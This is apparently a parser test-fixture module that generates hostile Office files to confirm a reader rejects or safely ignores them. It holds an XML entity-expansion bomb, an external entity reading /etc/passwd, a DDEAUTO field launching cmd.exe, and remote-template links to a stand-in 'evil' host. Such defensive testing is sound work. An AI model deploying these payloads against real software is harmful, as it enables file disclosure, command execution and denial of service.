import { docxParts, makeDocx, makeXlsx, relations, xlsxParts } from "../office-file.ts";
import { makeZip, type ZipFilePart } from "../zip-file.ts";
import type { HostileFile } from "./hostile-file.ts";
import { HONEST_ROWS } from "./honest-files.ts";

const ENTITIES = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${"bcdefghij"[index]} "${`&${"abcdefghi"[index]};`.repeat(10)}">`).join("")}]>`;
const EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';

/** XML inside office files that expands, points outside, never ends or nests without end. */
export function hostileMarkup(): readonly HostileFile[] {
  const changed = CHANGED_PARTS.map(([name, part, data, outcome]) => ({
    name,
    bytes: withPart(name, part, data),
    outcome,
  }));
  return [...changed, ...outsideFiles()];
}

type ChangedPart = readonly [name: string, part: string, data: string, outcome: string];

const SHEET = "xl/worksheets/sheet1.xml";
const BODY = "word/document.xml";
const TEXT = "<w:p><w:r><w:t>正文</w:t></w:r></w:p>";

const sheet = (rows: string) => `<worksheet><sheetData>${rows}</sheetData></worksheet>`;
const body = (content: string) => `<w:document><w:body>${content}</w:body></w:document>`;
const nested = (open: string, close: string, depth: number) => body(open.repeat(depth) + TEXT + close.repeat(depth));

const CHANGED_PARTS: readonly ChangedPart[] = [
  ["entity-bomb.xlsx", SHEET, ENTITIES + sheet('<row><c t="str"><v>&j;</v></c></row>'), "xml-doctype"],
  ["entity-bomb-strings.xlsx", "xl/sharedStrings.xml", `${ENTITIES}<sst><si><t>&j;</t></si></sst>`, "xml-doctype"],
  ["external-entity.xlsx", "xl/workbook.xml", `${EXTERNAL}<workbook>&e;</workbook>`, "xml-doctype"],
  ["entity-bomb.docx", BODY, ENTITIES + body("&j;"), "xml-doctype"],
  ["external-entity.docx", "_rels/.rels", `${EXTERNAL}<Relationships/>`, "xml-doctype"],
  ["undeclared-entity.xlsx", SHEET, sheet('<row><c t="str"><v>&j;&#x110000;&#0;&#xD800;</v></c></row>'), "reads"],
  ["unclosed.xlsx", SHEET, `<worksheet><sheetData>${HONEST_ROWS}`, "xml-incomplete"],
  ["unclosed-comment.xlsx", SHEET, "<worksheet><!-- ", "xml-incomplete"],
  ["unclosed-quote.xlsx", SHEET, '<worksheet><sheetData><row r="1', "xml-incomplete"],
  ["closes-too-much.xlsx", SHEET, "<worksheet></c></row></is></worksheet></worksheet>", "xml-damaged"],
  ["crossed-tags.xlsx", SHEET, sheet('<row><c t="str"><v>1</c></v></row>'), "xml-damaged"],
  ["deep.xlsx", SHEET, `<worksheet>${"<a>".repeat(5000)}${"</a>".repeat(5000)}</worksheet>`, "limit-depth"],
  ["deep-tables.docx", BODY, `<w:document><w:body>${"<w:tbl><w:tr><w:tc>".repeat(2000)}`, "limit-depth"],
  ["deep-tables-closed.docx", BODY, nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 160), "reads"],
  ["deep-text-boxes.docx", BODY, nested("<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>", 150), "reads"],
  ["stray-ends.docx", BODY, body(`</w:tc></w:tr></w:tbl></w:p></w:sdt></w:txbxContent>${TEXT}`), "xml-damaged"],
  ["endless-field.docx", BODY, body(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>${TEXT}`), "reads"],
  [
    "dde-field.docx",
    BODY,
    body(`<w:p><w:r><w:instrText>DDEAUTO cmd.exe "/k calc"</w:instrText></w:r></w:p>${TEXT}`),
    "reads",
  ],
  [
    "wide-span.docx",
    BODY,
    body(
      `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${TEXT}</w:tc><w:tc>${TEXT}</w:tc></w:tr></w:tbl>`,
    ),
    "reads",
  ],
  [
    "style-loop.docx",
    "word/styles.xml",
    '<w:styles><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
    "file-empty",
  ],
];

function withPart(name: string, part: string, data: string): Uint8Array {
  const parts = name.endsWith("xlsx") ? honestXlsx() : docxParts({ body: "" });
  return makeZip(replaced(parts, part, data));
}

/** Files that name other machines, and files with macros: nothing is fetched or run. */
function outsideFiles(): readonly HostileFile[] {
  const sheets = [{ name: "目标", xml: HONEST_ROWS }];
  const macros = (name: string, data: string) => makeXlsx({ sheets, parts: [{ name, data }] });
  return [
    { name: "external-template.docx", bytes: withOutside("docx"), outcome: "reads" },
    { name: "external-link.xlsx", bytes: withOutside("xlsx"), outcome: "reads" },
    { name: "macros.xlsm", bytes: macros("xl/vbaProject.bin", "Auto_Open"), outcome: "macros-ignored" },
    {
      name: "macro-sheet.xlsm",
      bytes: macros("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>"),
      outcome: "macros-ignored",
    },
    {
      name: "macros.docm",
      bytes: makeDocx({ body: TEXT, parts: [{ name: "word/vbaProject.bin", data: "AutoOpen" }] }),
      outcome: "macros-ignored",
    },
  ];
}

function honestXlsx(): readonly ZipFilePart[] {
  return xlsxParts({ sheets: [{ name: "目标", xml: HONEST_ROWS }] });
}

function replaced(parts: readonly ZipFilePart[], name: string, data: string): readonly ZipFilePart[] {
  return parts.map((part) => (part.name === name ? { name, data } : part));
}

/** Relations whose targets stand on other machines: nothing may be fetched, and the file reads without them. */
function withOutside(kind: "docx" | "xlsx"): Uint8Array {
  const outside =
    '<Relationship Id="x" Type="x/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/><Relationship Id="y" Type="x/externalLinkPath" Target="\\\\192.0.2.1\\share\\evil.xlsx" TargetMode="External"/></Relationships>';
  const add = (text: string) => text.replace("</Relationships>", outside);
  if (kind === "docx") {
    const rels = add(relations([["rId1", "styles", "styles.xml"]]));
    return makeZip(
      replaced(docxParts({ body: "<w:p><w:r><w:t>正文</w:t></w:r></w:p>" }), "word/_rels/document.xml.rels", rels),
    );
  }
  const rels = add(relations([["rId1", "worksheet", "worksheets/sheet1.xml"]]));
  return makeZip(
    replaced(xlsxParts({ sheets: [{ name: "目标", xml: HONEST_ROWS }] }), "xl/_rels/workbook.xml.rels", rels),
  );
}
